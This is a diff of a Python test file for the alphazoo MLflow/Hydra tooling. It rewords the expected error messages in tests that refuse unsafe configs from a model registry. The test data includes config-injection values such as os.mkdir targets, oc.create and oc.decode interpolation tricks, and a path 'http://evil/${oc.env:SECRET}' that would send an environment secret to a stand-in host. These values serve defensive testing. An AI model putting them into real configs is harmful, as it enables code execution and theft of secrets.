@@ -254,7 +254,7 @@ def test_a_model_of_the_user_is_served_where_its_yaml_is(
     register = ["logger=mlflow", "logger.mlflow.model_name=own", "hydra.run.dir=out"]
     alphazoo("train", "--config-dir=mine", "model=own", *SMALL, *register)
     refused = str(alphazoo("predict", "model_uri=models:/own/1", DAY).code)
-    assert "the config of models:/own/1 makes own_linear.Own, which no yaml file" in refused
+    assert "the config of models:/own/1 uses own_linear.Own, which no yaml file" in refused
     for run in ("run=out", "model_uri=models:/own/1"):
         assert alphazoo("predict", run, DAY, "--config-dir=mine").code == 0
 
@@ -278,15 +278,15 @@ datamodule: {_target_: "${names.${better:${folder}}}", path: harm}
 @pytest.mark.parametrize(
     ("evil", "message"),
     [
-        (f"extra: {EVIL}", "makes os.mkdir, which no yaml file of alphazoo"),
-        (f"extra: '${{oc.create:\"{EVIL}\"}}'", "makes ${oc.create:"),
-        (HIDDEN, "makes ${names.${better:${folder}}}, which no yaml"),
-        ("names: {a: os.mkdir}\ndatamodule: {_target_: '${names.a}'}", "makes ${names.a}, which"),
-        ("d: decode\nextra: '${oc.${d}:\"[1]\"}'", "makes ${oc.${d}:"),
-        ("data: {path: 'http://evil/${oc.env:SECRET}'}", "makes http://evil/${oc.env:SECRET}, wh"),
+        (f"extra: {EVIL}", "uses os.mkdir, which no yaml file of alphazoo"),
+        (f"extra: '${{oc.create:\"{EVIL}\"}}'", "uses ${oc.create:"),
+        (HIDDEN, "uses ${names.${better:${folder}}}, which no yaml"),
+        ("names: {a: os.mkdir}\ndatamodule: {_target_: '${names.a}'}", "uses ${names.a}, which"),
+        ("d: decode\nextra: '${oc.${d}:\"[1]\"}'", "uses ${oc.${d}:"),
+        ("data: {path: 'http://evil/${oc.env:SECRET}'}", "uses http://evil/${oc.env:SECRET}, wh"),
         (
             "data: {path: '${oc.env:MLFLOW_TRACKING_URI,\"sqlite:///runs/mlflow.db\"}'}",
-            "makes ${oc.env:MLFLOW_TRACKING_URI,",
+            "uses ${oc.env:MLFLOW_TRACKING_URI,",
         ),
         ("ensemble: {by: rank, runs: ['${folder}/inner']}", "models:/bad/1 is an ensemble"),
     ],
@@ -325,7 +325,7 @@ def test_what_the_user_says_of_a_version_may_be_anything(
     OmegaConf.save(told, version / "config.yaml")
     monkeypatch.setenv("STOCKS", "12")
     asked = ["predict", "model_uri=models:/bad/1", DAY]
-    assert "makes ${oc.env:STOCKS}, which no" in str(alphazoo(*asked).code)
+    assert "uses ${oc.env:STOCKS}, which no" in str(alphazoo(*asked).code)
     assert alphazoo(*asked, "data.n_stocks=12").code == 0
     mine = "label._target_=test_tracking.OwnLabel"
     assert alphazoo(*asked, "data.n_stocks='${oc.decode:${oc.env:STOCKS}}'", mine).code == 0
@@ -380,7 +380,7 @@ def test_the_password_of_a_server_is_in_no_file_and_no_message(
         assert known["store"] == known["asked"] == "http://server:5000/path@x"
         if runs == 1 and "@" in word:
             asked.remember(**{**known, "run": "0" * 32})
-    assert f"http://server:5000/path@x has no run {'0' * 32}: a new one begins" in caplog.text
+    assert f"http://server:5000/path@x has no run {'0' * 32}: starting a new one" in caplog.text
     assert "secret" not in caplog.text
 
 
@@ -403,7 +403,10 @@ def test_the_password_of_a_server_is_in_no_file_and_no_message(
             ["logger=mlflow", "logger.mlflow.tracking_uri=null"],
             "tracking_uri=sqlite:///FILE or a U",
         ),
-        (["logger=mlflow", "logger.mlflow.model_name=a/b"], "model_name is a name .* got 'a/b'"),
+        (
+            ["logger=mlflow", "logger.mlflow.model_name=a/b"],
+            "model_name must be a name .* got 'a/b'",
+        ),
         (["logger=mlflow", "logger.mlflow.tracking_uri=odd://x"], "MLflow at odd://x: .*unsupport"),
         (["logger=mlflow", "logger.mlflow.tracking_uri=sqlite:///bad.db"], "not a database"),
         (["logger=wandb", "logger.wandb.mode=onlin"], "mode 'onlin'; did you mean 'online'"),
@@ -493,7 +496,7 @@ def test_a_server_that_is_lost_costs_no_training(
         )
         patch.setattr(MlflowClient, "log_artifact", gone)
         result = alphazoo("train", *told)
-    assert "figures are in logs/metrics.csv alone from now on: the server is away" in result.out
+    assert "from now on, metrics are only in logs/metrics.csv: the server is away" in result.out
     assert "the server is away" in str(result.code)
     assert json.loads((tmp_path / "out" / "metrics.json").read_text())["test/days"] > 0
     again = alphazoo("train", "run=out")
